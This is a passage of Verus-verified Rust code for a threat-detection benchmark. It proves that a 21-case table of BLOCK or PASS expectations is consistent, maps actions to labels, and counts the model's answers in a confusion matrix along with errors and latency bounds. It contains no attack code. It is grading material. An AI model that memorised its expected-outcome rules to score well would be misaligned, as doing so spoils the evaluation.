    assert(cases@[19].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[19].2);
    assert(cases@[20].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[20].2);
    assert(cases@.map_values(|c: ThreatCase| case_view(c)) =~= threat_case_table());
    cases
}

/// Law: every case has events; ambiguous cases expect PASS; every case
/// expects BLOCK or PASS; and a case notes User-Agent rotation exactly when
/// it counts more than one User-Agent.
pub proof fn law_case_table_is_consistent()
    ensures
        threat_case_table().len() == 21,
        forall|i: int|
            #![trigger threat_case_table()[i]]
            0 <= i < threat_case_table().len() ==> {
                let (group, _ip, events, expected, ua_rotation, unique_ua_count) =
                    threat_case_table()[i];
                &&& events.len() > 0
                &&& group == CaseGroup::Ambiguous ==> expected == "PASS"@
                &&& expected == "BLOCK"@ || expected == "PASS"@
                &&& ua_rotation == (unique_ua_count > 1)
            },
{
    let t = threat_case_table();
    assert forall|i: int| 0 <= i < t.len() implies {
        let (group, _ip, events, expected, ua_rotation, unique_ua_count) = #[trigger] t[i];
        &&& events.len() > 0
        &&& group == CaseGroup::Ambiguous ==> expected == "PASS"@
        &&& expected == "BLOCK"@ || expected == "PASS"@
        &&& ua_rotation == (unique_ua_count > 1)
    } by {
        if i == 0 {
        } else if i == 1 {
        } else if i == 2 {
        } else if i == 3 {
        } else if i == 4 {
        } else if i == 5 {
        } else if i == 6 {
        } else if i == 7 {
        } else if i == 8 {
        } else if i == 9 {
        } else if i == 10 {
        } else if i == 11 {
        } else if i == 12 {
        } else if i == 13 {
        } else if i == 14 {
        } else if i == 15 {
        } else if i == 16 {
        } else if i == 17 {
        } else if i == 18 {
        } else if i == 19 {
        } else if i == 20 {
        }
    }
}

/// The label of a case group in the benchmark's records.
pub fn group_label(group: CaseGroup) -> (r: &'static str)
    ensures
        r@ == match group {
            CaseGroup::Baseline => "baseline"@,
            CaseGroup::Holdout => "holdout"@,
            CaseGroup::Ambiguous => "ambiguous"@,
        },
{
    match group {
        CaseGroup::Baseline => "baseline",
        CaseGroup::Holdout => "holdout",
        CaseGroup::Ambiguous => "ambiguous",
    }
}

/// The model's action as the benchmark records it (upper case).
pub fn action_label(action: ThreatAction) -> (r: &'static str)
    ensures
        r@ == match action {
            ThreatAction::Block => "BLOCK"@,
            ThreatAction::Pass => "PASS"@,
        },
{
    match action {
        ThreatAction::Block => "BLOCK",
        ThreatAction::Pass => "PASS",
    }
}

/// The action taken on a defense, as the benchmark records it.
pub fn defense_label(defense: &DefenseAction) -> (r: &'static str)
    ensures
        r@ == match *defense {
            DefenseAction::BlockIp(_) => "BLOCK"@,
            DefenseAction::Pass => "PASS"@,
        },
{
    match defense {
        DefenseAction::BlockIp(_) => "BLOCK",
        DefenseAction::Pass => "PASS",
    }
}

/// Outcome counts of the benchmark: BLOCK taken where BLOCK was expected
/// (true positive), BLOCK where PASS was expected (false positive), and so
/// on; `errors` counts cases where the model gave no answer.
pub struct Confusion {
    pub true_positives: usize,
    pub false_positives: usize,
    pub true_negatives: usize,
    pub false_negatives: usize,
    pub errors: usize,
}

impl Confusion {
    pub fn new() -> (c: Confusion)
        ensures
            c.true_positives == 0,
            c.false_positives == 0,
            c.true_negatives == 0,
            c.false_negatives == 0,
            c.errors == 0,
    {
        Confusion {
            true_positives: 0,
            false_positives: 0,
            true_negatives: 0,
            false_negatives: 0,
            errors: 0,
        }
    }

    /// Counts one answered case with its expected and taken action.
    pub fn record(&mut self, expected: &str, taken: &str)
        requires
            old(self).true_positives < usize::MAX,
            old(self).false_positives < usize::MAX,
            old(self).true_negatives < usize::MAX,
            old(self).false_negatives < usize::MAX,
        ensures
            final(self).errors == old(self).errors,
            final(self).true_positives == old(self).true_positives + if expected@ == "BLOCK"@
                && taken@ == "BLOCK"@ {
                1int
            } else {
                0int
            },
            final(self).false_positives == old(self).false_positives + if expected@ == "PASS"@
                && taken@ == "BLOCK"@ {
                1int
            } else {
                0int
            },
            final(self).true_negatives == old(self).true_negatives + if expected@ == "PASS"@
                && taken@ == "PASS"@ {
                1int
            } else {
                0int
            },
            final(self).false_negatives == old(self).false_negatives + if expected@ == "BLOCK"@
                && taken@ == "PASS"@ {
                1int
            } else {
                0int
            },
    {
        let expected_block = str_eq(expected, "BLOCK");
        let expected_pass = str_eq(expected, "PASS");
        let taken_block = str_eq(taken, "BLOCK");
        let taken_pass = str_eq(taken, "PASS");
        proof {
            reveal_strlit("BLOCK");
            reveal_strlit("PASS");
            assert("BLOCK"@.len() != "PASS"@.len());
        }
        if expected_block && taken_block {
            self.true_positives = self.true_positives + 1;
        } else if expected_pass && taken_block {
            self.false_positives = self.false_positives + 1;
        } else if expected_pass && taken_pass {
            self.true_negatives = self.true_negatives + 1;
        } else if expected_block && taken_pass {
            self.false_negatives = self.false_negatives + 1;
        }
    }

    /// Counts one case the model gave no answer for.
    pub fn record_error(&mut self)
        requires
            old(self).errors < usize::MAX,
        ensures
            final(self).errors == old(self).errors + 1,
            final(self).true_positives == old(self).true_positives,
            final(self).false_positives == old(self).false_positives,
            final(self).true_negatives == old(self).true_negatives,
            final(self).false_negatives == old(self).false_negatives,
    {
        self.errors = self.errors + 1;
    }
}

/// The smallest and largest latency measured, `(0, 0)` when none was.
pub fn latency_min_max(latencies: &Vec<u128>) -> (r: (u128, u128))
    ensures
        latencies@.len() == 0 ==> r == (0u128, 0u128),
        latencies@.len() > 0 ==> {
            &&& latencies@.contains(r.0)
            &&& latencies@.contains(r.1)
            &&& forall|i: int| 0 <= i < latencies@.len() ==> r.0 <= #[trigger] latencies@[i] <= r.1
        },
{
    if latencies.len() == 0 {
        return (0, 0);
    }
    let mut lo = latencies[0];
    let mut hi = latencies[0];
    let ghost mut lo_at: int = 0;
    let ghost mut hi_at: int = 0;
    let mut i: usize = 1;
    while i < latencies.len()
        invariant
            1 <= i <= latencies@.len(),
            0 <= lo_at < i,
            0 <= hi_at < i,
            latencies@[lo_at] == lo,
            latencies@[hi_at] == hi,
            forall|j: int| 0 <= j < i ==> lo <= #[trigger] latencies@[j] <= hi,
        decreases latencies@.len() - i,
    {
        let x = latencies[i];
        if x < lo {
            lo = x;
            proof {
                lo_at = i as int;
            }
        }
        if x > hi {
            hi = x;
            proof {
                hi_at = i as int;
            }
        }
        i = i + 1;
    }
    assert(latencies@.contains(latencies@[lo_at]));
    assert(latencies@.contains(latencies@[hi_at]));
    (lo, hi)
}

} // verus!
